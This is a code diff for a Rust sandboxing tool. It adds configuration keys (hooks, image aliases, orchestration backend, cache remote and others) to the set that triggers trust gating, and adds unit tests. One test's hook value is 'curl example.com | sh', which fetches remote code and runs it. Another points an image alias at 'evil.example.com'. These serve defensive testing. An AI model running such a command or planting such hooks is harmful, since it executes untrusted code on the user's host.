@@ -27,13 +27,40 @@ const SENSITIVE_CONTAINER_KEYS: &[&str] = &[
     "network_allow",
     "network_preset",
     "image",
+    "pull",
     "layers",
+    "layer_args",
+    "packages",
     "workdir",
+    "extra_projects",
+    "user",
+    "home",
+    "devices",
+    "userns",
+    "session_dns",
+    "env_passthrough",
+    "pids_limit",
+    "cpus",
+    "memory_mb",
+    "gpus",
+    "ulimits",
+    "hostname",
+    "extra_hosts",
+    "platform",
+    "tmpfs",
+    "read_only",
+    "propagate",
 ];
 
 /// VM keys considered security-sensitive for trust gating.
-/// On macOS, these control which OrbStack VM commands execute inside.
-const SENSITIVE_VM_KEYS: &[&str] = &["name", "distro"];
+/// On macOS, these control which VM (OrbStack or Lima) commands execute inside.
+/// `cpus` and `memory_gb` resize OrbStack, which restarts all of its machines.
+const SENSITIVE_VM_KEYS: &[&str] = &["provider", "name", "distro", "cpus", "memory_gb"];
+
+/// Orchestration keys considered security-sensitive for trust gating.
+/// Switching to Docker moves sessions onto a (typically rootful) daemon;
+/// `remote` redirects sessions (and synced project files) to another host.
+const SENSITIVE_ORCHESTRATION_KEYS: &[&str] = &["backend", "remote", "kubernetes"];
 
 /// Sandbox keys considered security-sensitive for trust gating.
 /// Controls resource limits, path access, and credential store overrides.
@@ -45,8 +72,30 @@ const SENSITIVE_SANDBOX_KEYS: &[&str] = &[
     "max_memory_mb",
     "max_processes",
     "cache_mode",
+    "env_passthrough",
 ];
 
+/// Image keys: aliases can redirect `--image` to any reference or layer set.
+const SENSITIVE_IMAGES_KEYS: &[&str] = &["aliases"];
+
+/// Hook keys: every hook runs an arbitrary command on the host.
+const SENSITIVE_HOOKS_KEYS: &[&str] = &["pre_run", "post_run", "post_create"];
+
+/// Git keys: the host `.gitconfig` is copied into the container.
+const SENSITIVE_GIT_KEYS: &[&str] = &["include_host_gitconfig"];
+
+/// Cache keys: `remote` fills cache volumes from, and uploads them to, a
+/// shared store; `scope` decides whether other projects share the caches.
+const SENSITIVE_CACHE_KEYS: &[&str] = &["remote", "scope"];
+
+/// Session keys: `clipboard` lets `mino clip` move text between the host
+/// clipboard and the container.
+const SENSITIVE_SESSION_KEYS: &[&str] = &["clipboard"];
+
+/// Sections sensitive as a whole: credentials, and services (arbitrary
+/// images sharing the session's network and publishing host ports).
+const SENSITIVE_WHOLE_SECTIONS: &[&str] = &["credentials", "services"];
+
 /// A single trust entry keyed by file content hash.
 #[derive(Debug, Clone, Serialize, Deserialize)]
 struct TrustEntry {
@@ -142,7 +191,13 @@ pub fn hash_content(bytes: &[u8]) -> String {
 const SENSITIVE_SECTIONS: &[(&str, &[&str])] = &[
     ("container", SENSITIVE_CONTAINER_KEYS),
     ("vm", SENSITIVE_VM_KEYS),
+    ("orchestration", SENSITIVE_ORCHESTRATION_KEYS),
     ("sandbox", SENSITIVE_SANDBOX_KEYS),
+    ("hooks", SENSITIVE_HOOKS_KEYS),
+    ("images", SENSITIVE_IMAGES_KEYS),
+    ("git", SENSITIVE_GIT_KEYS),
+    ("cache", SENSITIVE_CACHE_KEYS),
+    ("session", SENSITIVE_SESSION_KEYS),
 ];
 
 /// Walk the parsed TOML value and check for sensitive key paths.
@@ -163,8 +218,10 @@ pub fn analyze_sensitive_fields(value: &toml::Value) -> SensitiveAnalysis {
         }
     }
 
-    if table.contains_key("credentials") {
-        fields.push("credentials".to_string());
+    for section in SENSITIVE_WHOLE_SECTIONS {
+        if table.contains_key(*section) {
+            fields.push(section.to_string());
+        }
     }
 
     SensitiveAnalysis { fields }
@@ -179,9 +236,9 @@ fn format_sensitive_summary(value: &toml::Value, fields: &[String]) -> String {
     let mut lines = Vec::new();
 
     for field in fields {
-        if field == "credentials" {
-            if let Some(creds) = table.get("credentials") {
-                lines.push(format!("[credentials] = {}", summarize_value(creds)));
+        if SENSITIVE_WHOLE_SECTIONS.contains(&field.as_str()) {
+            if let Some(section) = table.get(field) {
+                lines.push(format!("[{field}] = {}", summarize_value(section)));
             }
             continue;
         }
@@ -393,6 +450,19 @@ mod tests {
         assert!(analysis.fields.contains(&"credentials".to_string()));
     }
 
+    #[test]
+    fn test_services_is_sensitive() {
+        let value: toml::Value = toml::from_str(
+            r#"
+            [services.db]
+            image = "postgres:16"
+            "#,
+        )
+        .unwrap();
+        let analysis = analyze_sensitive_fields(&value);
+        assert_eq!(analysis.fields, vec!["services".to_string()]);
+    }
+
     #[test]
     fn test_multiple_sensitive_fields() {
         let value: toml::Value = toml::from_str(
@@ -553,6 +623,242 @@ mod tests {
         assert!(analysis.fields.contains(&"container.workdir".to_string()));
     }
 
+    #[test]
+    fn test_container_user_is_sensitive() {
+        let value: toml::Value = toml::from_str(
+            r#"
+            [container]
+            user = "root"
+            "#,
+        )
+        .unwrap();
+        let analysis = analyze_sensitive_fields(&value);
+        assert!(analysis.has_sensitive());
+        assert!(analysis.fields.contains(&"container.user".to_string()));
+    }
+
+    #[test]
+    fn test_container_env_passthrough_is_sensitive() {
+        let value: toml::Value = toml::from_str(
+            r#"
+            [container]
+            env_passthrough = ["AWS_*"]
+            "#,
+        )
+        .unwrap();
+        let analysis = analyze_sensitive_fields(&value);
+        assert_eq!(analysis.fields, vec!["container.env_passthrough"]);
+    }
+
+    #[test]
+    fn test_vm_sizing_is_sensitive() {
+        let value: toml::Value = toml::from_str(
+            r#"
+            [vm]
+            cpus = 8
+            memory_gb = 16
+            "#,
+        )
+        .unwrap();
+        let analysis = analyze_sensitive_fields(&value);
+        assert_eq!(analysis.fields, vec!["vm.cpus", "vm.memory_gb"]);
+    }
+
+    #[test]
+    fn test_container_resource_limits_are_sensitive() {
+        let value: toml::Value = toml::from_str(
+            r#"
+            [container]
+            cpus = 64.0
+            memory_mb = 0
+            pids_limit = 0
+            "#,
+        )
+        .unwrap();
+        let analysis = analyze_sensitive_fields(&value);
+        assert_eq!(
+            analysis.fields,
+            vec![
+                "container.pids_limit",
+                "container.cpus",
+                "container.memory_mb"
+            ]
+        );
+    }
+
+    #[test]
+    fn test_container_pull_is_sensitive() {
+        let value: toml::Value = toml::from_str(
+            r#"
+            [container]
+            pull = "never"
+            "#,
+        )
+        .unwrap();
+        let analysis = analyze_sensitive_fields(&value);
+        assert_eq!(analysis.fields, vec!["container.pull"]);
+    }
+
+    #[test]
+    fn test_session_clipboard_is_sensitive() {
+        let value: toml::Value = toml::from_str(
+            r#"
+            [session]
+            clipboard = true
+            "#,
+        )
+        .unwrap();
+        let analysis = analyze_sensitive_fields(&value);
+        assert_eq!(analysis.fields, vec!["session.clipboard"]);
+    }
+
+    #[test]
+    fn test_container_gpus_is_sensitive() {
+        let value: toml::Value = toml::from_str(
+            r#"
+            [container]
+            gpus = true
+            "#,
+        )
+        .unwrap();
+        let analysis = analyze_sensitive_fields(&value);
+        assert_eq!(analysis.fields, vec!["container.gpus"]);
+    }
+
+    #[test]
+    fn test_container_ulimits_is_sensitive() {
+        let value: toml::Value = toml::from_str(
+            r#"
+            [container]
+            ulimits = ["nofile=-1"]
+            "#,
+        )
+        .unwrap();
+        let analysis = analyze_sensitive_fields(&value);
+        assert_eq!(analysis.fields, vec!["container.ulimits"]);
+    }
+
+    #[test]
+    fn test_container_host_names_are_sensitive() {
+        let value: toml::Value = toml::from_str(
+            r#"
+            [container]
+            hostname = "devbox"
+            extra_hosts = ["ghcr.io:10.0.0.5"]
+            "#,
+        )
+        .unwrap();
+        let analysis = analyze_sensitive_fields(&value);
+        assert_eq!(
+            analysis.fields,
+            vec!["container.hostname", "container.extra_hosts"]
+        );
+    }
+
+    #[test]
+    fn test_container_isolation_posture_is_sensitive() {
+        let value: toml::Value = toml::from_str(
+            r#"
+            [container]
+            read_only = false
+            propagate = ["gitconfig"]
+            "#,
+        )
+        .unwrap();
+        let analysis = analyze_sensitive_fields(&value);
+        assert_eq!(
+            analysis.fields,
+            vec!["container.read_only", "container.propagate"]
+        );
+    }
+
+    #[test]
+    fn test_hooks_is_sensitive() {
+        let value: toml::Value = toml::from_str(
+            r#"
+            [hooks]
+            pre_run = ["curl example.com | sh"]
+            "#,
+        )
+        .unwrap();
+        let analysis = analyze_sensitive_fields(&value);
+        assert!(analysis.has_sensitive());
+        assert!(analysis.fields.contains(&"hooks.pre_run".to_string()));
+    }
+
+    #[test]
+    fn test_git_host_gitconfig_is_sensitive() {
+        let value: toml::Value = toml::from_str(
+            r#"
+            [git]
+            user_name = "Ada"
+            include_host_gitconfig = true
+            "#,
+        )
+        .unwrap();
+        let analysis = analyze_sensitive_fields(&value);
+        assert_eq!(analysis.fields, vec!["git.include_host_gitconfig"]);
+    }
+
+    #[test]
+    fn test_cache_remote_is_sensitive() {
+        let value: toml::Value = toml::from_str(
+            r#"
+            [cache]
+            gc_days = 7
+
+            [cache.remote]
+            backend = "s3"
+            bucket = "team-caches"
+            "#,
+        )
+        .unwrap();
+        let analysis = analyze_sensitive_fields(&value);
+        assert_eq!(analysis.fields, vec!["cache.remote"]);
+    }
+
+    #[test]
+    fn test_cache_scope_is_sensitive() {
+        let value: toml::Value = toml::from_str(
+            r#"
+            [cache]
+            scope = "global"
+            "#,
+        )
+        .unwrap();
+        let analysis = analyze_sensitive_fields(&value);
+        assert_eq!(analysis.fields, vec!["cache.scope"]);
+    }
+
+    #[test]
+    fn test_orchestration_backend_is_sensitive() {
+        let value: toml::Value = toml::from_str(
+            r#"
+            [orchestration]
+            backend = "docker"
+            "#,
+        )
+        .unwrap();
+        let analysis = analyze_sensitive_fields(&value);
+        assert!(analysis.has_sensitive());
+        assert!(analysis
+            .fields
+            .contains(&"orchestration.backend".to_string()));
+    }
+
+    #[test]
+    fn test_image_aliases_are_sensitive() {
+        let value: toml::Value = toml::from_str(
+            r#"
+            [images.aliases]
+            python = "evil.example.com/python:latest"
+            "#,
+        )
+        .unwrap();
+        let analysis = analyze_sensitive_fields(&value);
+        assert!(analysis.fields.contains(&"images.aliases".to_string()));
+    }
+
     #[test]
     fn test_vm_name_is_sensitive() {
         let value: toml::Value = toml::from_str(